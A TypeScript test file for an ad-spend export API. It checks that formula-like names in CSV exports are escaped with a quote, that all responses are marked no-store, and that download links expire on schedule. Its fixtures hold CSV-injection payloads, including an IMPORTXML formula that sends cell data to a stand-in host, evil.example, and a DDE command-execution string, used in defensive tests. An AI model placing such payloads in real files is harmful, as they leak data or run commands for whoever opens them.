import assert from 'node:assert/strict';
import fs from 'node:fs';
import { randomUUID } from 'node:crypto';
import { after, mock, test } from 'node:test';
import type { LightMyRequestResponse } from 'fastify';
import { migrate } from '../src/db/migrate.js';
import {
  ADMIN_TOKEN,
  assertErrorEnvelope,
  createTestDatabase,
  finishedExport,
  minimalOrder,
  parseCsv,
  postOrders,
  startExportingService,
  type TestClient,
} from './helpers.js';

/*
 * Exports are safe to open in a spreadsheet, nothing the API answers is kept by a cache, and a
 * download link's life is fixed when its export finishes.
 */

const service = await startExportingService();
after(() => service.close());
const app = service.production;

const DAY = '2024-03-01';
/** Names and ids a spreadsheet would run as formulas: one for each first character that can start one, and spaces or a line feed before one. */
const FORMULAS = [
  '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
  '+SUM(1, 2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '-5',
];
/** Every column of client text (include_ids, an account breakdown, level ad). */
const TEXT_COLUMNS = ['platform', 'account', 'campaign', 'campaign_id', 'adset', 'adset_id', 'ad', 'ad_id'];

/** A client with an hour of spend on DAY for each text of FORMULAS, in every name and id. */
async function clientWithFormulas(): Promise<TestClient> {
  const client = await service.createClient();
  const data = FORMULAS.map((text, hour) => ({
    hour_start_iso: `${DAY}T${String(hour).padStart(2, '0')}:00:00Z`,
    platform_name: text,
    platform_account_id: text,
    campaign_id: text,
    campaign_name: text,
    adset_id: text,
    adset_name: text,
    ad_id: text,
    ad_name: text,
    spend: hour + 1,
    spend_currency: 'USD',
    impressions: 1000,
    clicks: 10,
  }));
  const response = await app.inject({ method: 'POST', url: '/v1/spend_hourly', headers: client.headers, payload: { data } });
  assert.equal(response.statusCode, 201, response.body);
  return client;
}

const ON_DAY = { period_type: 'FIXED', period_options: { period_starting_at: `${DAY}T00:00:00Z`, period_ending_at: `${DAY}T23:59:59Z` } };

function createExport(client: TestClient, body: object) {
  return app.inject({ method: 'POST', url: '/v1/exports/data-export', headers: client.headers, payload: body });
}

/** Downloads a result link, with no credentials. */
function download(link: string) {
  const url = new URL(link);
  return app.inject({ method: 'GET', url: url.pathname + url.search });
}

/** Runs an export to SUCCESS; its one file as downloaded, and its rows by header name. */
async function exportFile(client: TestClient, body: object) {
  const created = await createExport(client, body);
  assert.equal(created.statusCode, 201, created.body);
  const result = await finishedExport(app, client, created.json().id);
  assert.equal(result.status, 'SUCCESS', JSON.stringify(result.warn));
  assert.equal(result.result.length, 1);
  const file = await download(result.result[0]!);
  assert.equal(file.statusCode, 200, file.body);
  const [header, ...rows] = parseCsv(file.body);
  return { text: file.body, rows: rows.map((row) => Object.fromEntries(header!.map((name, index) => [name, row[index]!]))) };
}

const AD_ROWS = {
  ...ON_DAY,
  level: 'ad',
  breakdowns: [{ key: 'account', values: [] }],
  metrics: [{ id: 'spend' }, { id: 'clicks' }, { id: 'cpc' }],
};

test('names and ids that start like a formula are written after a quote; dates, kind, currency and metrics are not', async () => {
  const client = await clientWithFormulas();
  const { text, rows } = await exportFile(client, { ...AD_ROWS, options: { include_ids: true, include_kind_and_platform: true } });
  assert.equal(rows.length, FORMULAS.length);
  for (const row of rows) {
    const stored = FORMULAS[Number(row.spend) - 1]!;
    for (const column of TEXT_COLUMNS) assert.equal(row[column], `'${stored}`, `${column} of ${JSON.stringify(stored)}`);
    assert.equal(row.date, DAY);
    assert.equal(row.kind, 'ad');
    assert.equal(row.currency, 'USD');
    assert.equal(row.clicks, '10');
    assert.match(row.cpc!, /^0\.\d+$/);
  }
  // RFC 4180 still holds once prefixed: the quote goes inside the cell's quotes, its quotes doubled.
  assert.ok(text.includes(`"'=IMPORTXML(CONCAT(""http://evil.example/?"", A2), ""//a"")"`), text);
  assert.ok(text.includes(`"'\r=1+1"`), 'a cell holding a carriage return is quoted');
});

test('a metric below zero is written as a number, beside prefixed names', async () => {
  const client = await clientWithFormulas();
  // Bought in February, refunded on DAY: DAY's net revenue is -10.
  const order = minimalOrder('refunded', {
    time_of_purchase: '2024-02-20T10:00:00Z',
    currency: 'USD',
    refunds: [{ product_id: 'p', quantity: 1, refund_amount: 10, refund_cost: 0, refund_made_at: `${DAY}T12:00:00Z` }],
  });
  const posted = await postOrders(app, client, [order]);
  assert.equal(posted.statusCode, 200, posted.body);
  const { rows } = await exportFile(client, {
    ...ON_DAY,
    options: { aggregate_data: true },
    breakdowns: [{ key: 'account', values: [] }],
    metrics: [{ id: 'spend' }, { id: 'net_revenue' }],
  });
  const store = rows.find((row) => row.platform === '');
  assert.equal(store?.net_revenue, '-10', JSON.stringify(rows));
  assert.deepEqual(rows.filter((row) => row !== store).map((row) => row.account).sort(), FORMULAS.map((text) => `'${text}`).sort());
});

test('escape_formulas: false writes names and ids as stored', async () => {
  const client = await clientWithFormulas();
  const { rows } = await exportFile(client, { ...AD_ROWS, options: { include_ids: true, escape_formulas: false } });
  assert.deepEqual(
    rows.map((row) => TEXT_COLUMNS.map((column) => row[column])).sort(),
    FORMULAS.map((text) => TEXT_COLUMNS.map(() => text)).sort(),
  );
});

test('escape_formulas must be a boolean', async () => {
  const client = await service.createClient();
  const response = await createExport(client, { ...AD_ROWS, options: { escape_formulas: 'no' } });
  const body = assertErrorEnvelope(response, 422);
  assert.equal(body.errors?.[0]?.loc, 'body/options/escape_formulas');
});

/** Asserts that an answer forbids caches to keep it; returns it. */
function notStored(response: LightMyRequestResponse, status: number) {
  assert.equal(response.statusCode, status, response.body);
  assert.equal(response.headers['cache-control'], 'no-store', `${status} ${response.body}`);
  return response;
}

test('every answer of the API, errors included, and every download is Cache-Control: no-store', async () => {
  const client = await clientWithFormulas();
  const wrongKey = { ...client.headers, authorization: 'trb_wrong' };
  const admin = { authorization: `Bearer ${ADMIN_TOKEN}` };

  notStored(await postOrders(app, client, [minimalOrder('cached')]), 200);
  notStored(await app.inject({ method: 'GET', url: '/v2/orders?start_date=2024-03-01&end_date=2024-03-31', headers: client.headers }), 200);
  notStored(await postOrders(app, client, [minimalOrder('')]), 400);
  notStored(await app.inject({ method: 'GET', url: `/v1/spend_hourly?date=${DAY}&platform_account_id=-5`, headers: client.headers }), 200);
  notStored(await app.inject({ method: 'GET', url: `/v1/spend_hourly?date=${DAY}`, headers: client.headers }), 422);
  notStored(await app.inject({ method: 'GET', url: '/v2/orders?start_date=2024-03-01&end_date=2024-03-31', headers: wrongKey }), 401);
  notStored(await app.inject({ method: 'GET', url: '/v1/exports/metrics', headers: client.headers }), 200);
  notStored(await createExport(client, { ...AD_ROWS, metrics: [] }), 422);
  notStored(await app.inject({ method: 'GET', url: '/v1/exports/data-export/result/6d0c3d6e-0000-4000-8000-000000000000', headers: client.headers }), 404);

  notStored(await app.inject({ method: 'GET', url: `/admin/v1/clients/${client.client_id}`, headers: admin }), 200);
  notStored(await app.inject({ method: 'POST', url: '/admin/v1/clients', headers: admin, payload: { name: 'cached' } }), 201);
  notStored(await app.inject({ method: 'GET', url: `/admin/v1/clients/${client.client_id}` }), 401);

  const created = notStored(await createExport(client, { ...AD_ROWS, options: { include_ids: true } }), 201);
  const result = await finishedExport(app, client, created.json().id);
  notStored(await app.inject({ method: 'GET', url: `/v1/exports/data-export/result/${created.json().id}`, headers: client.headers }), 200);
  const link = new URL(result.result[0]!);
  notStored(await download(link.toString()), 200);
  link.searchParams.set('signature', 'x'.repeat(43));
  notStored(await download(link.toString()), 403);
});

test('a download link expires when its export finished plus EXPORT_LINK_TTL_SECONDS, however late it is polled', async (t) => {
  const client = await clientWithFormulas();
  const created = await createExport(client, { ...AD_ROWS, metrics: [{ id: 'spend' }] });
  const { id } = created.json();
  const finished = await finishedExport(app, client, id);
  const ttl = service.config.exportLinkTtlSeconds;
  const expiry = Math.floor(Date.parse(finished.finished_at) / 1000) + ttl;
  const poll = async () => {
    const response = await app.inject({ method: 'GET', url: `/v1/exports/data-export/result/${id}`, headers: client.headers });
    assert.equal(response.statusCode, 200, response.body);
    return response.json().result as string[];
  };

  mock.timers.enable({ apis: ['Date'], now: Date.now() });
  t.after(() => mock.timers.reset());
  const first = await poll();
  mock.timers.tick(3600_000);
  const anHourLater = await poll();
  assert.deepEqual(anHourLater, first, 'the same links, expiry included');
  assert.equal(Number(new URL(first[0]!).searchParams.get('expires')), expiry);
  assert.equal((await download(anHourLater[0]!)).statusCode, 200);

  mock.timers.setTime((expiry - 1) * 1000);
  assert.deepEqual(await poll(), first, 'polled just before it expires');
  assert.equal((await download(first[0]!)).statusCode, 200);
  mock.timers.setTime((expiry + 1) * 1000);
  const late = await poll();
  assert.deepEqual(late, first, 'polled after it expired, the link is not renewed');
  assertErrorEnvelope(await download(late[0]!), 403);
});

test('migration 0008 gives exports finished before it links that expire 7 days after they finished', async () => {
  const store = await createTestDatabase({ migrated: false });
  try {
    // The store as migration 0007 left it.
    const migrations = new URL('../migrations/', import.meta.url);
    const earlier = fs.readdirSync(migrations).filter((name) => name.endsWith('.sql') && name < '0008').sort();
    await store.db.exec('CREATE TABLE schema_migrations (version text PRIMARY KEY, applied_at timestamptz NOT NULL DEFAULT now())');
    for (const name of earlier) {
      await store.db.exec(fs.readFileSync(new URL(name, migrations), 'utf8'));
      await store.db.query('INSERT INTO schema_migrations (version) VALUES ($1)', [name.replace(/\.sql$/, '')]);
    }
    // Written as 0007's schema takes it: today's repository writes columns of later migrations.
    const client_id = randomUUID();
    await store.db.query('INSERT INTO clients (client_id, name) VALUES ($1, $2)', [client_id, 'before 0008']);
    const insert = (exportId: string, status: string, finishedAt: string | null) =>
      store.db.query(
        `INSERT INTO exports (client_id, environment, export_id, request, status, files, finished_at)
         VALUES ($1, 'production', $2, '{}', $3, $4, $5)`,
        [client_id, exportId, status, status === 'SUCCESS' ? ['a.csv'] : [], finishedAt],
      );
    await insert('00000000-0000-4000-8000-000000000001', 'SUCCESS', '2024-03-01T10:00:00Z');
    await insert('00000000-0000-4000-8000-000000000002', 'ERROR', '2024-03-01T10:00:00Z');
    await insert('00000000-0000-4000-8000-000000000003', 'PENDING', null);

    assert.ok((await migrate(store.db)).applied.includes('0008_export_link_expiry'));
    const rows = await store.db.query<{ status: string; links_expire_at: string | null }>(
      'SELECT status, utc_iso(links_expire_at) AS links_expire_at FROM exports WHERE client_id = $1 ORDER BY export_id',
      [client_id],
    );
    assert.deepEqual(rows, [
      { status: 'SUCCESS', links_expire_at: '2024-03-08T10:00:00.000Z' },
      { status: 'ERROR', links_expire_at: null },
      { status: 'PENDING', links_expire_at: null },
    ]);

    // A process older than 0008 finishing an export without an expiry fails, to be tried again.
    await assert.rejects(
      store.db.query(`UPDATE exports SET status = 'SUCCESS', finished_at = now() WHERE client_id = $1 AND status = 'PENDING'`, [client_id]),
      (error: { code?: string }) => error.code === '23514',
    );
  } finally {
    await store.drop();
  }
});
